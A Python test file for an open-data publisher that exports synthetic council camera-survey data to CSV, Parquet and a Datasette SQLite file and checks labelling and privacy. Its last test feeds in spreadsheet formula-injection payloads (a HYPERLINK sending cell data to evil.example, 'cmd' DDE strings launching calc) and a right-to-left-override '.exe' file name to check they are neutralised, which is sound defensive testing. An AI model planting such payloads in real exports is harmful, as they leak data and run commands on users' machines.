"""Open data on the crafted survey: a valid data package, a Datasette-ready SQLite file, no personal data."""

from __future__ import annotations

import asyncio
import csv
import json
import sqlite3

import pyarrow.parquet as pq
import pytest
from frictionless import validate

from camcensus.reports.publish import DB_NAME, publish
from camcensus.synthetic import SYNTHETIC_NOTE
from crafted_survey import SEEDED, build_survey

TABLES = {
    "campaigns": 1,
    "bodies": 10,
    "requests": 10,
    "facts": 28,
    "evidence": 3,
    "statistics": 57,
    "comparison": 0,  # one round only
    "devices": 0,  # no estate scanned
}


@pytest.fixture
def published(sqlite_store, tmp_path):
    with sqlite_store.session() as session:
        build_survey(session, synthetic=True)
    out = tmp_path / "open"
    summary = publish(sqlite_store, out)
    return out, summary


def test_tables_written_in_every_format(published):
    out, summary = published
    assert summary.tables == TABLES and summary.synthetic
    for name, count in TABLES.items():
        assert len((out / f"{name}.csv").read_text().splitlines()) >= count + 1
        assert pq.read_table(out / "parquet" / f"{name}.parquet").num_rows == count
    with sqlite3.connect(out / DB_NAME) as db:
        counts = {name: db.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0] for name in TABLES}
    assert counts == TABLES


def test_datapackage_is_valid(published):
    out, _ = published
    report = validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = json.loads((out / "datapackage.json").read_text())
    assert package["title"].startswith("SYNTHETIC DEMO DATA")
    assert {lic["name"] for lic in package["licenses"]} == {"CC-BY-4.0", "MIT", "OGL-UK-3.0"}


def test_datasette_serves_tables_with_metadata(published):
    from datasette.app import Datasette

    out, _ = published
    metadata = json.loads((out / "metadata.json").read_text())
    assert "CC BY 4.0" in metadata["license"] and "mySociety" in metadata["source"]
    described = metadata["databases"]["camcensus-public"]["tables"]
    assert set(described) == set(TABLES) and all(t["description"] for t in described.values())

    async def browse() -> tuple[list[str], list[dict], str]:
        datasette = Datasette(files=[str(out / DB_NAME)], metadata=metadata)
        await datasette.invoke_startup()
        tables = (await datasette.client.get("/camcensus-public.json")).json()["tables"]
        rows = (await datasette.client.get("/camcensus-public/evidence.json?_shape=array")).json()
        home = (await datasette.client.get("/")).text
        return [t["name"] for t in tables], rows, home

    names, rows, home = asyncio.run(browse())
    assert set(TABLES) <= set(names)
    assert {r["kind"] for r in rows} == {"manufacturer", "exemption"}
    assert "SYNTHETIC DEMO DATA" in home


def test_no_personal_data_in_any_published_file(published):
    out, _ = published
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) >= 15
    for path in files:
        data = path.read_bytes()
        for personal in SEEDED:
            assert personal.encode() not in data, (path.name, personal)
    for path in (out / "parquet").glob("*.parquet"):
        text = json.dumps(pq.read_table(path).to_pylist(), default=str)
        assert not [p for p in SEEDED if p in text], path.name
    assert "foi@county.gov.uk" in (out / "evidence.csv").read_text()


def test_embargoed_campaign_left_out(published):
    out, _ = published
    for path in [p for p in out.rglob("*") if p.is_file()]:
        assert b"E1 Secret Council" not in path.read_bytes(), path.name
    assert "secret" not in (out / "campaigns.csv").read_text()


def test_publishing_again_replaces_the_files(published, sqlite_store):
    out, first = published
    second = publish(sqlite_store, out)
    assert second.tables == first.tables and second.files == first.files
    with sqlite3.connect(out / DB_NAME) as db:
        assert db.execute("SELECT count(*) FROM bodies").fetchone()[0] == 10


def test_publish_command(sqlite_store, run_cli, tmp_path):
    with sqlite_store.session() as session:
        build_survey(session)
    db = sqlite_store.url.split("///", 1)[1]
    summary = json.loads(run_cli("publish", "--out", str(tmp_path / "o"), "--json", db=db).stdout)
    assert summary["tables"] == TABLES and summary["synthetic"] is False
    out = tmp_path / "o"
    assert "SYNTHETIC" not in (out / "README.md").read_text()
    assert "SYNTHETIC" not in (out / "parquet" / "README.md").read_text()
    assert json.loads((out / "datapackage.json").read_text())["synthetic"] is False
    assert pq.read_schema(out / "parquet" / "bodies.parquet").metadata[b"synthetic"] == b"false"


def test_every_published_folder_says_synthetic(sqlite_store, run_cli, tmp_path):
    """Issue 18: a folder copied on its own (the CSVs, parquet/, the Datasette file with its metadata) still
    says it holds synthetic demo data."""
    with sqlite_store.session() as session:
        build_survey(session, synthetic=True)
    db = sqlite_store.url.split("///", 1)[1]
    out = tmp_path / "o"
    done = run_cli("publish", "--out", str(out), db=db)
    assert SYNTHETIC_NOTE in done.stdout
    package = json.loads((out / "datapackage.json").read_text())
    assert package["synthetic"] is True
    assert validate(str(out / "datapackage.json")).valid
    for readme in (out / "README.md", out / "parquet" / "README.md"):
        assert SYNTHETIC_NOTE in readme.read_text(), readme
    for parquet in (out / "parquet").glob("*.parquet"):
        assert pq.read_schema(parquet).metadata[b"synthetic"] == b"true", parquet.name
    metadata = json.loads((out / "metadata.json").read_text())
    assert SYNTHETIC_NOTE in metadata["description"]
    tables = metadata["databases"]["camcensus-public"]["tables"]
    assert all(t["description"].startswith(SYNTHETIC_NOTE) for t in tables.values())
    with sqlite3.connect(out / DB_NAME) as db_file:
        assert {row[0] for row in db_file.execute("SELECT synthetic FROM statistics")} == {1}


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Hikvision cameras")',
    "+cmd|' /C calc'!A0 Hikvision",
    "-2+3+cmd|' /C calc'!A0 Dahua",
    "@SUM(1+1)*cmd|' /C calc'!A0 Axis",
    "\t=1+1 Hanwha",
    "\r=1+1 Bosch",
)


def test_formula_quotes_and_bidi_file_names_are_neutralised_in_open_data(sqlite_store, tmp_path):
    """Issue 16: quotes that begin with a formula went raw into evidence.csv; a file name's right-to-left
    override went into the document column."""
    from sqlalchemy import select

    from camcensus.store.models import Document, Evidence

    with sqlite_store.session() as session:
        build_survey(session)
        doc = session.scalars(select(Document).where(Document.filename.like("%.pdf"))).first()
        doc.filename = "answer\u202egpj.exe"
        for n, quote in enumerate(FORMULAS):
            session.add(
                Evidence(
                    document_id=doc.id,
                    body_id=doc.body_id,
                    kind="manufacturer",
                    value=f"V{n}",
                    quote=quote,
                    location="page 2",
                    char_start=n,
                )
            )
    out = tmp_path / "open"
    publish(sqlite_store, out)
    with (out / "evidence.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    quotes = {row["value"]: row["quote"] for row in rows}
    assert quotes["V0"] == "'" + FORMULAS[0]
    assert all("\u202e" not in c for c in cells) and "answergpj.exe" in cells
    # Parquet and SQLite are not opened by spreadsheets as formulas: the quote stays as read
    assert FORMULAS[0] in [
        r["quote"] for r in pq.read_table(out / "parquet" / "evidence.parquet").to_pylist()
    ]
